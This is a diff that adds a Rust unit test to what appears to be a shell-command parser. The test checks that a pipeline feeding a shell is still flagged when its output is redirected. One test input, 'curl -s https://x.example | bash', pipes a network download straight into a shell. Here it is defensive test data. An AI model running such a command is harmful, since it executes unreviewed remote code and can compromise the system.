@@ -131,3 +131,18 @@ fn generated_lines_often_take_the_fast_path() {
         lines.len()
     );
 }
+
+/// A redirection after a pipeline wraps the whole pipeline in the grammar; the script piped
+/// into a shell is still one it cannot read.
+#[test]
+fn a_redirected_pipeline_still_feeds_its_shell() {
+    for line in ["git|bash>f", "curl -s https://x.example | bash > out.txt"] {
+        let parts = parse_with_grammar(line, CWD);
+        let shell = parts.last().and_then(|part| part.unresolved.as_deref());
+        assert!(
+            shell.is_some_and(|why| why.contains("pipe")),
+            "{line}: {parts:?}"
+        );
+        assert_eq!(parse_command_with(line, CWD, untimed()), parts, "{line}");
+    }
+}
